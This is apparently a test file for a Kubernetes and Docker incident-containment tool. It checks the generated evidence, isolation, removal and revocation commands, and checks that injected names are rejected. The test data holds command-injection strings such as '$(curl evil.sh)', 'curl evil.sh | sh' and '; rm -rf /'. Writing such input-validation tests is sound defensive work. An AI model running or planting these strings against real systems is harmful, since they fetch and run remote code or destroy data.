import assert from 'node:assert/strict';
import { test } from 'node:test';
import { an0745Finding, DIGEST } from '../../test/support/an0745-finding.js';
import type { PlanStep } from '../model/finding.js';
import { containmentPlan, platformOf } from './containment.js';

function step(steps: PlanStep[], phase: PlanStep['phase']): string[] {
  return steps.find((s) => s.phase === phase)?.commands ?? [];
}

/** Commands proper: not the notes (comment lines) the plan prints beside them. */
function runnable(steps: PlanStep[]): string[] {
  return steps.flatMap((s) => s.commands).filter((c) => !c.startsWith('#'));
}

test('AN0745 on Kubernetes: preserve first, then isolate, remove, revoke and watch, with the commands filled in', () => {
  const f = an0745Finding();
  assert.equal(platformOf(f), 'kubernetes');
  const steps = containmentPlan(f);
  assert.deepEqual(
    steps.map((s) => s.phase),
    ['preserve', 'isolate', 'remove', 'patch', 'watch'],
  );
  const preserve = step(steps, 'preserve');
  assert.deepEqual(preserve.slice(0, 4), [
    'mkdir -p coalmine-evidence',
    'kubectl -n kube-system get daemonset/kube-netmon -o yaml > coalmine-evidence/kube-system.daemonset.kube-netmon.yaml',
    'kubectl -n kube-system get pods -o yaml > coalmine-evidence/kube-system.pods.yaml',
    `kubectl -n kube-system get pods -o jsonpath='{range .items[*]}{.metadata.name}{"\\t"}{range .status.containerStatuses[*]}{.image}{" "}{.imageID}{" "}{end}{"\\n"}{end}' > coalmine-evidence/kube-system.image-digests.txt`,
  ]);
  assert.ok(
    preserve.includes(
      'kubectl -n kube-system logs pod/kube-netmon-2z59n --all-containers --timestamps > coalmine-evidence/kube-system.kube-netmon-2z59n.log',
    ),
  );
  assert.ok(preserve.includes(`# image digests coalmine saw: ${DIGEST}`));

  const isolate = step(steps, 'isolate');
  assert.equal(
    isolate[0],
    'kubectl -n kube-system label pod kube-netmon-fxx9t kube-netmon-2z59n kube-netmon-hp4wt coalmine-quarantine=AN0745 --overwrite',
  );
  const policyLine = isolate[1];
  assert.match(policyLine, /^echo '(\{.*\})' \| kubectl apply -f - {3}# deny all egress/);
  const manifest = JSON.parse(/^echo '(\{.*\})'/.exec(policyLine)?.[1] ?? '');
  assert.deepEqual(manifest, {
    apiVersion: 'networking.k8s.io/v1',
    kind: 'NetworkPolicy',
    metadata: { name: 'coalmine-quarantine', namespace: 'kube-system' },
    spec: { podSelector: { matchLabels: { 'coalmine-quarantine': 'AN0745' } }, policyTypes: ['Egress'], egress: [] },
  });
  assert.deepEqual(
    isolate.slice(2).map((c) => c.split('   #')[0]),
    ['kubectl cordon worker-1', 'kubectl cordon worker-2', 'kubectl cordon worker-3'],
  );
  assert.deepEqual(step(steps, 'remove'), ['kubectl -n kube-system delete daemonset/kube-netmon']);

  const revoke = step(steps, 'patch');
  assert.equal(
    revoke[0],
    `kubectl get clusterrolebindings,rolebindings -A -o wide | grep -E 'system:(anonymous|unauthenticated)'   # bindings granting anonymous requests anything: delete each`,
  );
  assert.ok(revoke.some((c) => c.includes('--anonymous-auth=false')));
  assert.ok(revoke.some((c) => c.includes('203.0.113.45')));
  assert.ok(
    revoke.some((c) =>
      c.startsWith("kubectl get clusterrolebindings,rolebindings -A -o wide | grep -F -- 'kube-system/default'"),
    ),
  );

  const watch = step(steps, 'watch');
  assert.equal(watch[0].split('   #')[0], "coalmine hunt 'audit/audit.log' --fail-on low");
  assert.ok(
    watch[1].endsWith(`| grep -F -e ${DIGEST}   # any pod running the same image; alert or deny it at admission`),
  );
});

test('removal follows the workload kind: scale controllers to zero, delete DaemonSets, Jobs, CronJobs and Pods', () => {
  const removal = (kind: string, name = 'web') =>
    step(
      containmentPlan(
        an0745Finding({}, { workload_kind: kind, workload_name: name, namespace: 'shop', pods: ['web-7d9f-abcde'] }),
      ),
      'remove',
    );
  assert.deepEqual(removal('Deployment'), [
    'kubectl -n shop scale deploy/web --replicas=0   # keeps the object for the investigation; delete it once preserved',
  ]);
  assert.match(removal('StatefulSet')[0], /^kubectl -n shop scale statefulset\/web --replicas=0 /);
  assert.match(removal('ReplicaSet')[0], /^kubectl -n shop scale replicaset\/web --replicas=0 /);
  assert.deepEqual(removal('DaemonSet'), ['kubectl -n shop delete daemonset/web']);
  assert.deepEqual(removal('Job'), ['kubectl -n shop delete job/web']);
  assert.deepEqual(removal('CronJob'), ['kubectl -n shop delete cronjob/web']);
  assert.deepEqual(removal('Pod', 'web-7d9f-abcde'), ['kubectl -n shop delete pod/web-7d9f-abcde']);
  // owner unknown: look for the owner first, then delete the pod
  assert.deepEqual(removal('Workload'), [
    "kubectl -n shop get pod/web-7d9f-abcde -o jsonpath='{.metadata.ownerReferences}'   # its owner was not known: remove that instead if there is one",
    'kubectl -n shop delete pod/web-7d9f-abcde',
  ]);
});

test('revoke names the creator: a service account by its bindings and token, a user quoted, a hostile creator by hand', () => {
  const revoke = (creator: string) =>
    step(containmentPlan(an0745Finding({}, { creator, creator_groups: ['system:serviceaccounts'] })), 'patch');
  assert.deepEqual(revoke('system:serviceaccount:ci:gitlab-runner').slice(0, 2), [
    "kubectl get clusterrolebindings,rolebindings -A -o wide | grep -F -- 'ci/gitlab-runner'   # the bindings that let ci/gitlab-runner create workloads: delete or narrow them",
    'kubectl -n ci delete serviceaccount/gitlab-runner   # invalidates every token issued to it; recreate it without those bindings if a legitimate workload needs it',
  ]);
  assert.equal(
    revoke(`eve'; curl evil.sh | sh; '`)[0],
    `kubectl get clusterrolebindings,rolebindings -A -o wide | grep -F -- 'eve'\\''; curl evil.sh | sh; '\\'''   # the bindings that let it create workloads: delete or narrow them`,
  );
  assert.match(revoke('eve\u001b]0;x\u0007')[0], /^# the creator holds control characters: do this step by hand$/);
  // a service account whose parts are not names never reaches a command
  const bad = revoke('system:serviceaccount:ci:$(id)');
  assert.ok(bad[0].startsWith('# service account "system:serviceaccount:ci:$(id)" is not a valid Kubernetes name'));
  assert.ok(!runnable([{ phase: 'patch', action: '', commands: bad }]).some((c) => c.includes('$(id)')));
});

test('hostile names go into no command: each is refused with the reason, the valid ones still get their commands', () => {
  const hostile = [
    'kube-system; rm -rf /',
    '$(curl evil.sh)',
    '`id`',
    'Web',
    'web-',
    'web\nkubectl delete ns prod',
    'web\u202eexe',
    `a${'b'.repeat(253)}`,
    "x' || true #",
    '',
  ];
  for (const value of hostile) {
    for (const field of ['namespace', 'workload_name', 'pods', 'nodes'] as const) {
      const f = an0745Finding({}, { [field]: field === 'pods' || field === 'nodes' ? [value, 'ok-1'] : value });
      const steps = containmentPlan(f);
      const commands = runnable(steps);
      for (const c of commands)
        assert.ok(!c.includes(value) || value === '', `${field}=${JSON.stringify(value)} in: ${c}`);
      const notes = steps
        .flatMap((s) => s.commands)
        .filter((c) => c.startsWith('#') && c.includes('is not a valid Kubernetes name'));
      assert.ok(
        notes.length > 0 || (value === '' && field !== 'pods' && field !== 'nodes'),
        `${field}=${JSON.stringify(value)} refused with a reason`,
      );
      for (const n of notes) assert.ok(!/[\n\u202e]/.test(n), 'notes show the value inert');
      if (field === 'pods') assert.ok(commands.some((c) => c.includes('logs pod/ok-1 ')));
      if (field === 'nodes')
        assert.ok(
          commands.includes(
            'kubectl cordon ok-1   # no new pods there; DaemonSet pods tolerate it and leave with the removal below',
          ),
        );
    }
  }
  // a bad namespace leaves no namespaced command at all, but node and cluster-wide steps remain
  const commands = runnable(containmentPlan(an0745Finding({}, { namespace: 'Kube System' })));
  assert.ok(!commands.some((c) => c.includes('kubectl -n ')));
  assert.ok(commands.includes('mkdir -p coalmine-evidence'));
  assert.ok(commands.some((c) => c.startsWith('kubectl cordon worker-1')));
});

test('AN0745 on plain Docker: inspect, logs and export first, then pause, disconnect, stop and remove by container id', () => {
  const f = an0745Finding(
    { host: 'host-7' },
    {
      runtime: 'docker',
      namespace: 'docker',
      workload_kind: 'Container',
      workload_name: 'miner',
      containers: ['miner', 'bad name;'],
      container_ids: ['0123456789ab', 'nothex!!'],
      images: ["evil/xmrig:latest'; rm -rf /"],
      nodes: ['host-7'],
    },
  );
  assert.equal(platformOf(f), 'docker');
  const steps = containmentPlan(f);
  assert.deepEqual(
    steps.map((s) => s.phase),
    ['preserve', 'isolate', 'remove', 'patch', 'watch'],
  );
  assert.deepEqual(step(steps, 'preserve').slice(0, 6), [
    '# container name "bad name;" is not a Docker name: left out of every command',
    'mkdir -p /root/coalmine-evidence',
    'docker inspect 0123456789ab > /root/coalmine-evidence/0123456789ab.inspect.json',
    'docker logs --timestamps 0123456789ab > /root/coalmine-evidence/0123456789ab.log 2>&1',
    'docker export -o /root/coalmine-evidence/0123456789ab.tar 0123456789ab   # its filesystem, with what was dropped into it',
    "docker inspect --format '{{.Name}} {{.Config.Image}} {{.Image}}' 0123456789ab >> /root/coalmine-evidence/images.txt",
  ]);
  assert.equal(step(steps, 'isolate')[0], 'docker pause 0123456789ab   # freezes its processes and keeps their memory');
  assert.deepEqual(step(steps, 'remove').slice(0, 3), [
    'docker update --restart=no 0123456789ab',
    'docker stop 0123456789ab',
    'docker rm 0123456789ab',
  ]);
  // the image is not a plain reference: never in a command
  assert.ok(!runnable(steps).some((c) => c.includes('rm -rf') || c.includes('nothex')));
  assert.ok(!runnable(steps).some((c) => c.includes('kubectl')));
});
